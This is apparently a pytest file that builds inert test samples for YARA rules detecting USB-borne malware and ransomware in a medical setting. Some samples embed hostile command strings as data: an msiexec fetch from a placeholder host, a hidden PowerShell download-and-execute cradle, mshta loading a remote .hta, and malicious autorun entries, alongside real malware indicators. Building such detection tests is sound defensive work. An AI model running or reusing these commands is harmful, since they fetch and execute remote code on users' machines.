"""Inert samples, made at run time: for every rule what it must find, and what looks alike and must be let through.

None holds working code. Texts that name a threat are put together from pieces, so that neither a resident antivirus
nor our own rules find these test files themselves.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
import yara

ROOT = Path(__file__).parents[2]
SIGNATURES = ROOT / "signatures"
EXTERNALS = {"filename": "", "filepath": "", "extension": "", "filetype": "", "owner": ""}

Match = Callable[["Sample"], set[str]]


@dataclass(frozen=True)
class Sample:
    """Some bytes, and the path they are found under (forward or backward slashes)."""

    data: bytes
    path: str = "E:\\data\\item.bin"

    @property
    def externals(self) -> dict[str, str]:
        name = self.path.replace("/", "\\").rpartition("\\")[2]
        extension = name.rpartition(".")[2].lower() if "." in name else ""
        return {**EXTERNALS, "filename": name, "filepath": self.path, "extension": extension}


def rule_sources() -> dict[str, str]:
    return {
        path.relative_to(SIGNATURES).as_posix(): path.read_text(encoding="ascii")
        for path in sorted(SIGNATURES.rglob("*.yar"))
    }


@pytest.fixture(scope="session")
def rules() -> yara.Rules:
    return yara.compile(sources=rule_sources(), externals=EXTERNALS, includes=False, error_on_warning=True)


@pytest.fixture(scope="session")
def match(rules: yara.Rules) -> Match:
    def run(sample: Sample) -> set[str]:
        return {found.rule for found in rules.match(data=sample.data, externals=sample.externals, fast=True)}

    return run


# ------------------------------------------------------------------------------------------------- makers of files


def wide(text: str) -> bytes:
    return text.encode("utf-16-le")


def program(*texts: str | bytes, section: bytes = b".text") -> bytes:
    """A Windows program's headers with one section, no code, and some texts behind."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 0x80) + bytes(64)
    pe = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102) + bytes(0xE0)
    table = section.ljust(8, b"\0") + bytes(32)
    return dos + pe + table + _joined(texts).rjust(1024, b"\0")


def shortcut(
    arguments: str = "", target: str = "..\\cmd.exe", icons: str = "", icon: int = 0, id_list: bytes = b""
) -> bytes:
    """A Windows shortcut as [MS-SHLLINK] describes it, with Unicode texts."""
    flags = 0x80 | (0x01 if id_list else 0) | 0x08 | (0x20 if arguments else 0) | (0x40 if icons else 0)
    class_id = struct.pack("<IHH", 0x00021401, 0, 0) + bytes.fromhex("C000000000000046")
    header = struct.pack("<I", 0x4C) + class_id + struct.pack("<II", flags, 0x20) + bytes(24)
    header += struct.pack("<IiI", 0, icon, 7) + bytes(12)
    assert len(header) == 0x4C
    items = struct.pack("<H", len(id_list) + 2) + id_list + b"\0\0" if id_list else b""
    texts = [text for text in (target, arguments, icons) if text]
    return header + items + b"".join(struct.pack("<H", len(text)) + wide(text) for text in texts) + bytes(4)


def control_panel_list(path: str) -> bytes:
    """The list of places "This PC", "Control Panel", and an item that names `path`."""
    computer = bytes.fromhex("14001F50E04FD020EA3A6910A2D808002B30309D")
    panel = bytes.fromhex("14002E002020EC21EA3A6910A2DD08002B30309D")
    body = bytes(10) + b"\x6a\0\0\0\0\0\0\0" + wide(path + "\0")
    return computer + panel + struct.pack("<H", len(body) + 2) + body


def registry(*texts: bytes) -> bytes:
    return b"regf" + bytes(4092) + b"hbin" + bytes(28) + b"\0".join(texts) + bytes(64)


def dicom(preamble: bytes) -> bytes:
    return preamble.ljust(128, b"\0") + b"DICM" + bytes.fromhex("02000000554c040000000000") + bytes(64)


def _joined(texts: tuple[str | bytes, ...]) -> bytes:
    return b"\0\0".join(text if isinstance(text, bytes) else text.encode() for text in texts)


EICAR = b"".join([b"X5O!P%@AP[4\\PZX54(P^)", b"7CC)7}$EICAR-STAND", b"ARD-ANTIVIRUS-TEST-", b"FILE!$H+H*"])
OOPS = "Ooops, your import" + "ant files are encrypted."
WANA = "@WanaDecr" + "yptor@.exe"
MAIL, ACCOUNT = "wowsmith" + "123456@posteo.net", "1Mz7153HMuxXTuR2" + "R1t78mGSdzaAtNbBWX"
SERVICE, SHOWN = "WmiApS" + "rvEx", "WMI Performance Ada" + "pter Extension"
START = "ControlTr" + "ace -Embedding -k"
SECURITY_SERVICE = "Microsoft Security Cen" + "ter (2.0) Service"
BIN = "RECYCLER" + ".BIN"
FETCH = 'mSIExec /Q -I"HTtP:' + "//ab1c" + '.xy:8080/aBcDeF/HOST?user"'
HOUDINI = ["is-" + "ready", "enum-" + "driver", "enum-" + "faf", "cmd-" + "shell"]
SCRIPT = [
    'set fso = CreateObject("Scripting.' + 'FileSystemObject")',
    "if drive.Drive" + "Type = 1 then",
    "fso.Copy" + "File WScript.Script" + "FullName, drive.path",
    "folder.Attri" + "butes = 2",
    "set link = shell.Create" + "Shortcut(drive.path)",
]
NJRAT = ["SEE_MASK_NO" + "ZONECHECKS", "netsh firewall add " + 'allowedprogram "', "|'|" + "'|"]
PAGE = "DropFile" + 'Name = "svchost.exe"\nWriteData = "4D5A' + '90000300000004"\nFSO.GetSpecial' + "Folder(2)"
NBSP = "\u00a0"


def _lnk(arguments: str, **options: str | int | bytes) -> Sample:
    return Sample(shortcut(arguments, **options), "E:\\Holiday.lnk")  # type: ignore[arg-type]


def _autorun(text: str) -> Sample:
    return Sample(("[AutoRun]\r\n" + text).encode(), "E:\\AUTORUN.INF")


def _note(text: str) -> Sample:
    return Sample(text.encode(), "E:\\readme_now.txt")


def _pe(*texts: str | bytes, path: str = "E:\\tool.exe", section: bytes = b".text") -> Sample:
    return Sample(program(*texts, section=section), path)


MUST_FIND: dict[str, list[Sample]] = {
    "MedScan_EICAR_Test_File": [Sample(EICAR), Sample(EICAR + b"\r\n"), Sample(EICAR + b" " * 60)],
    "MedScan_Conficker_Autorun": [
        Sample(
            bytes(500)
            + b"shelLExECUte=RuNdLl32.EXE .\\RECYCLER\\S-5-3-42-28"
            + b"1\\jwgkv"
            + b"sq.vmx,ahaez"
            + bytes(500),
            "E:\\autorun.inf",
        )
    ],
    "MedScan_Conficker_Library_On_Stick": [
        _pe(path="E:\\x\\jwgkv" + "sq.vmx"),
        _pe(path="E:\\RECYCLER\\S-5-3-42-1\\abcdef.vmx"),
    ],
    "MedScan_Conficker_Unpacked": [
        _pe(
            "http://traffic" + "converter.biz/4vir",
            "getmy" + "ip.org",
            "whatsmy" + "ipaddress.com",
            "checkip" + ".dyndns.org",
        )
    ],
    "MedScan_WannaCry_Worm": [_pe("mssecsvc" + "2.0", "mssec" + "svc.exe", SECURITY_SERVICE)],
    "MedScan_WannaCry_Encryptor": [
        _pe("Global\\MsWinZones" + "CacheCounterMutexA", "WNcry@" + "2ol7", "t.w" + "nry"),
        _pe(wide("WanaCry" + "pt0r"), wide(WANA), "tasks" + "che.exe"),
    ],
    "MedScan_WannaCry_Encrypted_File": [
        Sample(b"WANA" + b"CRY!" + struct.pack("<I", 256) + bytes(256) + struct.pack("<IQ", 4, 5) + bytes(16))
    ],
    "MedScan_WannaCry_Note": [_note(f"Q: What happened?\n{OOPS} Run {WANA}"), Sample(wide(OOPS + WANA))],
    "MedScan_WannaCry_Service_In_Registry": [
        Sample(registry(b"mssecsvc" + b"2.0", wide(SECURITY_SERVICE)), "C:\\Windows\\System32\\config\\SYSTEM")
    ],
    "MedScan_NotPetya_Library": [_pe(MAIL, wide(OOPS), wide("wevtutil cl Setup &" + " wevtutil cl System"))],
    "MedScan_NotPetya_Note": [
        _note(f"{OOPS} {MAIL} {ACCOUNT}"),
        Sample(bytes(512 * 34) + f"{OOPS}\r\n{ACCOUNT} {MAIL}".encode()),
    ],
    "MedScan_Kwampirs_Program": [_pe(SERVICE, START), _pe(wide(SHOWN), wide(SERVICE))],
    "MedScan_Kwampirs_Service_In_Registry": [Sample(registry(SERVICE.encode(), wide(SHOWN)), "D:\\SYSTEM")],
    "MedScan_Andromeda_Shortcut": [
        _lnk("~$WB.usb" + "Drv,_ldr@" + '16 desktop.ini RET TLS "" ""', target="..\\rundll32.exe"),
        _lnk("~%" + "W.ini,lnk", target="..\\rundll32.exe"),
    ],
    "MedScan_Andromeda_Loader": [_pe("_ldr" + "@16", "desktop.ini"), _pe(path="E:\\~$WYDCNU.FAT" + "32")],
    "MedScan_Andromeda_Bot": [
        _pe("id:%lu|" + "bid:%lu|bv:%lu|"),
        _pe('{"id":%lu,' + '"bid":%lu,"os":%lu,"la":%lu'),
    ],
    "MedScan_Raspberry_Robin_Shortcut": [
        _lnk("/R TYPE xPhfK.Usb" + "|CmD"),
        _lnk("/RCm" + "D<qjM.chK"),
        _lnk(FETCH),
    ],
    "MedScan_Raspberry_Robin_Command_File": [Sample(FETCH.encode(), "E:\\xPhfK.usb")],
    "MedScan_PlugX_USB_Shortcut": [
        _lnk(f'/q /c "{BIN}\\1\\helper.exe 142 60"'),
        _lnk("", target=f".\\{BIN}\\x32dbg.exe"),
    ],
    "MedScan_PlugX_USB_Program_In_False_Recycle_Bin": [
        _pe(path=f"E:\\{BIN}\\1\\helper.exe"),
        _pe(path=f"/media/key/{BIN.lower()}/1/helper.dll"),
    ],
    "MedScan_PlugX_USB_False_Recycle_Bin": [
        Sample(
            b"[.ShellClassInfo]\r\nCLSID={645FF040-5081-101B" + b"-9F08-00AA002F954E}\r\n", f"E:\\{BIN}\\Desktop.ini"
        )
    ],
    "MedScan_PlugX_USB_Program_In_Invisible_Folder": [
        _pe(path=f"E:\\{NBSP}\\x32dbg.exe"),
        _pe(path=f"/media/key/{NBSP}{NBSP}/a.dll"),
    ],
    "MedScan_PlugX_USB_Payload": [Sample(wide("USB_NOTIFY" + "_COP_%ws") + wide("%ws:\\" + BIN + "\\1"))],
    "MedScan_Sality_Marker_In_System_Ini": [
        Sample(
            b"[drivers]\r\nwave=mmdrv.dll\r\n[MCIDRV" + b"_VER]\r\nDEVICE" + b"MB=123456789\r\n",
            "C:\\Windows\\system.ini",
        )
    ],
    "MedScan_Sality_Body": [_pe("http://kukutrusted" + "net777.info/home.gif", "\\\\.\\ams" + "int32")],
    "MedScan_Ramnit_Web_Page": [
        Sample(f"<html>hello</html><SCRIPT Language=VBScript>{PAGE}</SCRIPT>".encode(), "E:\\manual.html")
    ],
    "MedScan_Ramnit_Infected_Program": [_pe(section=b".rm" + b"net")],
    "MedScan_Ramnit_Body": [_pe("KyUffThOk" + "YwRRtgPP")],
    "MedScan_Shortcut_Loads_Library_When_Shown": [
        _lnk("", id_list=control_panel_list("\\\\.\\STORAGE#Volume#1&19f7e59c&0&x\\a.tmp")),
        _lnk("", id_list=control_panel_list("\\\\10.0.0.9\\share\\x.dll")),
    ],
    "MedScan_Stuxnet_Files": [
        _pe(path="E:\\~WTR" + "4141.tmp"),
        _lnk("", id_list=control_panel_list("\\\\.\\STORAGE#Volume\\~WTR" + "4132.tmp")),
    ],
    "MedScan_Shortcut_Runs_Hidden_File_Then_Folder": [
        _lnk("/c start wrpq.vbs" + "&start explorer Holiday&exit"),
        _lnk("/C START .\\_\\x.exe " + "& explorer %cd%Holiday"),
    ],
    "MedScan_Shortcut_Hidden_PowerShell": [
        _lnk("-nop -W Hidden -c IEX (New-Object Net.WebClient).Download" + "String('h')", target="..\\powershell.exe")
    ],
    "MedScan_Shortcut_Script_From_Network": [_lnk("https://203.0.113.9/a.hta", target="..\\system32\\msh" + "ta.exe")],
    "MedScan_Shortcut_Script_Under_False_Name": [_lnk("//e:vb" + "script thumb.db", target="..\\wscript.exe")],
    "MedScan_Shortcut_Folder_Icon_Runs_Script": [
        _lnk("x.vbs", target="..\\wscript.exe", icons="%SystemRoot%\\system32\\shell32.dll", icon=3),
        _lnk("/q x.bat & explorer Photos", icons="%SystemRoot%\\system32\\SHELL32.dll", icon=8),
    ],
    "MedScan_Autorun_Hidden_Program": [
        _autorun("open=RECYCLER\\x\\a.exe"),
        _autorun("shellexecute=wscript.exe a.vbs"),
        _autorun("open=photo.pif\r\n"),
    ],
    "MedScan_Autorun_Replaces_Opening_Of_Drive": [
        _autorun("Shell\\Open\\Command=a.exe"),
        _autorun("shell\\explore\\COMMAND = a.exe"),
    ],
    "MedScan_DICOM_Hides_Program": [
        Sample(dicom(start), "E:\\IM0001.dcm")
        for start in (b"MZ\x90\0", b"\x7fELF", bytes.fromhex("CFFAEDFE"), bytes.fromhex("CAFEBABE"))
    ],
    "MedScan_DICOM_Hides_Script": [Sample(dicom(b"#!/bin/sh\n")), Sample(dicom(b"@echo off\r\n"))],
    "MedScan_Houdini_Worm": [Sample("\r\n".join(HOUDINI).upper().encode(), "E:\\x.vbs")],
    "MedScan_Script_Copies_Itself_To_Sticks": [
        Sample("\r\n".join(SCRIPT).encode(), "E:\\x.vbs"),
        Sample(b"\xff\xfe" + wide("\r\n".join(SCRIPT)), "E:\\x.vbs"),
    ],
    "MedScan_NjRAT": [_pe(*map(wide, NJRAT))],
    "MedScan_Virut_Web_Page": [
        Sample(b'<html></html><IFRAME src="http://jL.chu' + b'ra.pl/rc/" width=1 height=1>', "E:\\help.htm")
    ],
    "MedScan_Brontok": [
        Sample(b"BRONTOK" + b".A[10]\r\n-- Jowo" + b"Bot #VM --"),
        _pe(wide("HVM" + "31"), wide("Jowo" + "Bot")),
    ],
    "MedScan_Ransom_Note_Ryuk": [_note("No system is safe\n\n\nRyu" + "k\n\nbalance of sha" + "dow universe")],
    "MedScan_Ransom_Note_Conti": [
        _note("All of your files are currently encry" + "pted by CONTI strain. http://conti" + "recovery.example")
    ],
    "MedScan_Ransom_Note_LockBit": [_note("LockBit 2.0 " + "Ransomware\nYour data are stolen" + " and encrypted")],
    "MedScan_Ransom_Note_Hive": [_note("http://hivecust6vhekztbqgdn" + "kks64ucehqacge3dij3gyrrpdp57zoq3ooqd.onion/")],
}

MUST_SPARE: dict[str, list[Sample]] = {
    "MedScan_EICAR_Test_File": [
        Sample(EICAR[:-1]),
        Sample(b" " + EICAR),
        Sample(EICAR + b" " * 61),
        Sample(EICAR.lower()),
    ],
    "MedScan_Conficker_Autorun": [_autorun("open=rundll32.exe RECYCLER\\S-5\\a.dll,b"), _autorun("open=setup.exe")],
    "MedScan_Conficker_Library_On_Stick": [
        Sample(b'.encoding = "UTF-8"\nvirtualHW.version = "19"', "E:\\vm\\station.vmx"),
        _pe(path="E:\\vm\\station.vmx"),
    ],
    "MedScan_Conficker_Unpacked": [_pe("getmy" + "ip.org", "checkip" + ".dyndns.org"), _pe("Global\\%u-%u")],
    "MedScan_WannaCry_Worm": [
        _note("mssecsvc" + "2.0, mssec" + f"svc.exe, {SECURITY_SERVICE}"),
        _pe(SECURITY_SERVICE),
    ],
    "MedScan_WannaCry_Encryptor": [_note("WNcry@" + "2ol7 t.w" + "nry c.w" + "nry"), _pe(WANA, "tasks" + "che.exe")],
    "MedScan_WannaCry_Encrypted_File": [
        Sample(b"WANA" + b"CRY! is an old worm" + bytes(400)),
        Sample(b"WANA" + b"CRY!\0\1\0\0"),
    ],
    "MedScan_WannaCry_Note": [_note(f"The screen said: {OOPS}"), _note(f"Look for {WANA}")],
    "MedScan_WannaCry_Service_In_Registry": [
        Sample(registry(b"wscsvc", wide("Security Center"))),
        _note("mssecsvc" + "2.0" + SECURITY_SERVICE),
    ],
    "MedScan_NotPetya_Library": [_note(f"{MAIL} {ACCOUNT} {OOPS}"), _pe("dllh" + "ost.dat", "schtasks")],
    "MedScan_NotPetya_Note": [_note(f"{OOPS} write to {MAIL}"), _note(OOPS)],
    "MedScan_Kwampirs_Program": [
        _pe("WmiApSrv", "WMI Performance Adapter"),
        _pe(SERVICE),
        _note(SERVICE + SHOWN + START),
    ],
    "MedScan_Kwampirs_Service_In_Registry": [
        Sample(registry(b"WmiApSrv", wide("WMI Performance Adapter"), wide("ControlTrace")))
    ],
    "MedScan_Andromeda_Shortcut": [
        _lnk("shell32.dll,Control_RunDLL desktop.ini", target="..\\rundll32.exe"),
        _note("rundll32 ~$WB.usb" + "Drv,_ldr@" + "16"),
    ],
    "MedScan_Andromeda_Loader": [
        _pe("desktop.ini"),
        Sample(b"text", "E:\\~$WB.usb" + "drv"),
        _pe(path="E:\\~$word.docx"),
    ],
    "MedScan_Andromeda_Bot": [_note("id:%lu|" + "bid:%lu|"), _pe('{"id":%lu,"name":"%s"}')],
    "MedScan_Raspberry_Robin_Shortcut": [
        _lnk("/k type readme.txt | more"),
        _lnk("/i http://intranet.hospital.example:8080/agent.msi", target="..\\msiexec.exe"),
        _note("cmd.exe /R TYPE xPhfK.Usb" + "|CmD"),
    ],
    "MedScan_Raspberry_Robin_Command_File": [
        Sample(b"msiexec /i http://intranet.hospital.example:8080/agent.msi /q", "E:\\install.cmd"),
        Sample(b"msiexec /i C:\\agent.msi\r\nstart http:" + b"//ab.fr:8080/", "E:\\install.cmd"),
    ],
    "MedScan_PlugX_USB_Shortcut": [_lnk("", target="..\\$RECYCLE.BIN\\a.exe"), _note(f"{BIN}\\1\\helper.exe")],
    "MedScan_PlugX_USB_Program_In_False_Recycle_Bin": [
        _pe(path="E:\\$RECYCLE.BIN\\S-1-5-21-1\\$R12345.exe"),
        Sample(b"text", f"E:\\{BIN}\\1\\a.txt"),
    ],
    "MedScan_PlugX_USB_False_Recycle_Bin": [
        Sample(b"CLSID={645FF040-5081-101B" + b"-9F08-00AA002F954E}", "E:\\$RECYCLE.BIN\\S-1\\desktop.ini"),
        Sample(b"[.ShellClassInfo]\r\nIconIndex=3", f"E:\\{BIN}\\desktop.ini"),
    ],
    "MedScan_PlugX_USB_Program_In_Invisible_Folder": [
        _pe(path=f"E:\\Donn{NBSP}es\\a.exe"),
        _pe(path="E:\\Imagerie m\u00e9dicale\\a.exe"),
    ],
    "MedScan_PlugX_USB_Payload": [Sample(wide(BIN + "\\")), Sample(b"USB_NOTIFY" + b"_COP")],
    "MedScan_Sality_Marker_In_System_Ini": [
        Sample(b"[mci]\r\n[386enh]\r\nwoafont=dosapp.FON\r\n", "C:\\Windows\\system.ini")
    ],
    "MedScan_Sality_Body": [_pe("purity_" + "control_"), _note("kukutrusted" + "net777 ams" + "int32.sys")],
    "MedScan_Ramnit_Web_Page": [
        Sample(b"<script>var name = fso.GetSpecial" + b"Folder(2); DropFile" + b"Name()</script>", "E:\\a.html")
    ],
    "MedScan_Ramnit_Infected_Program": [
        _pe(bytes(4096) + b".rm" + b"net\0"),
        Sample(bytes(0x200) + b".rm" + b"net\0\0"),
    ],
    "MedScan_Ramnit_Body": [_pe("rmnet0"), _note("KyUffThOk" + "YwRRtgPP")],
    "MedScan_Shortcut_Loads_Library_When_Shown": [
        _lnk("", id_list=control_panel_list("C:\\Windows\\system32\\main.cpl")),
        _lnk("", target="\\\\server\\share\\report.pdf"),
    ],
    "MedScan_Stuxnet_Files": [_pe(path="E:\\~WRD0001.tmp"), Sample(b"text", "E:\\~WTR" + "4141.tmp")],
    "MedScan_Shortcut_Runs_Hidden_File_Then_Folder": [
        _lnk("/c start notepad.exe"),
        _lnk('/k "C:\\Program Files\\Tools\\env.bat"'),
        _note("cmd /c start a.vbs" + "&start explorer b"),
    ],
    "MedScan_Shortcut_Hidden_PowerShell": [
        _lnk("-NoExit -ExecutionPolicy Bypass -File C:\\tools\\menu.ps1", target="..\\powershell.exe"),
        _lnk("-WindowStyle Hidden -File C:\\tools\\sync.ps1", target="..\\powershell.exe"),
    ],
    "MedScan_Shortcut_Script_From_Network": [
        _lnk("C:\\Program Files\\App\\main.hta", target="..\\msh" + "ta.exe"),
        _lnk("https://intranet.example/", target="..\\msedge.exe"),
    ],
    "MedScan_Shortcut_Script_Under_False_Name": [_lnk("C:\\tools\\inventory.vbs", target="..\\wscript.exe")],
    "MedScan_Shortcut_Folder_Icon_Runs_Script": [
        _lnk("", target="..\\Photos", icons="%SystemRoot%\\system32\\shell32.dll", icon=3),
        _lnk("x.vbs", target="..\\wscript.exe", icons="%SystemRoot%\\system32\\shell32.dll", icon=21),
        _lnk("/k dir", icons="%SystemRoot%\\system32\\shell32.dll", icon=3),
    ],
    "MedScan_Autorun_Hidden_Program": [
        _autorun("open=setup.exe\r\nicon=setup.exe,0\r\nlabel=Ultrasound service"),
        Sample(b"[AutoRun]\r\nopen=RECYCLER\\a.exe", "E:\\notes about autorun.inf.txt"),
    ],
    "MedScan_Autorun_Replaces_Opening_Of_Drive": [
        _autorun("shell\\install\\command=setup.exe"),
        _autorun("open=setup.exe"),
    ],
    "MedScan_DICOM_Hides_Program": [
        Sample(dicom(b"")),
        Sample(dicom(b"II*\0\x08\0\0\0")),
        _pe(),
        Sample(bytes(128) + b"DICMMZ"),
    ],
    "MedScan_DICOM_Hides_Script": [Sample(dicom(b"")), Sample(dicom(b"echo")), Sample(b"#!/bin/sh\n".ljust(200, b" "))],
    "MedScan_Houdini_Worm": [Sample(" ".join(HOUDINI[:3]).encode()), _pe(*HOUDINI)],
    "MedScan_Script_Copies_Itself_To_Sticks": [Sample("\r\n".join(SCRIPT[:-1]).encode(), "E:\\backup.vbs")],
    "MedScan_NjRAT": [_pe(wide(NJRAT[0])), _pe(*NJRAT)],
    "MedScan_Virut_Web_Page": [
        Sample(b'<a href="http://jL.chu' + b'ra.pl/rc/">', "E:\\help.htm"),
        Sample(b'<iframe src="https://chu' + b'ra.pl/">', "E:\\help.htm"),
    ],
    "MedScan_Brontok": [_note("Brontok" + ".A is a worm of 2005"), _pe("HVM" + "31")],
    "MedScan_Ransom_Note_Ryuk": [
        _note("Ryu" + "k is a family of ransom programs"),
        _note("balance of sha" + "dow universe"),
    ],
    "MedScan_Ransom_Note_Conti": [_note("In 2021 files were currently encry" + "pted by CONTI in Ireland's hospitals")],
    "MedScan_Ransom_Note_LockBit": [_note("The LockBit 2.0 " + "Ransomware, an analysis")],
    "MedScan_Ransom_Note_Hive": [_note("Hive left a file HOW_TO" + "_DECRYPT.txt")],
}


@pytest.fixture(scope="session")
def must_find() -> dict[str, list[Sample]]:
    return MUST_FIND


@pytest.fixture(scope="session")
def must_spare() -> dict[str, list[Sample]]:
    return MUST_SPARE
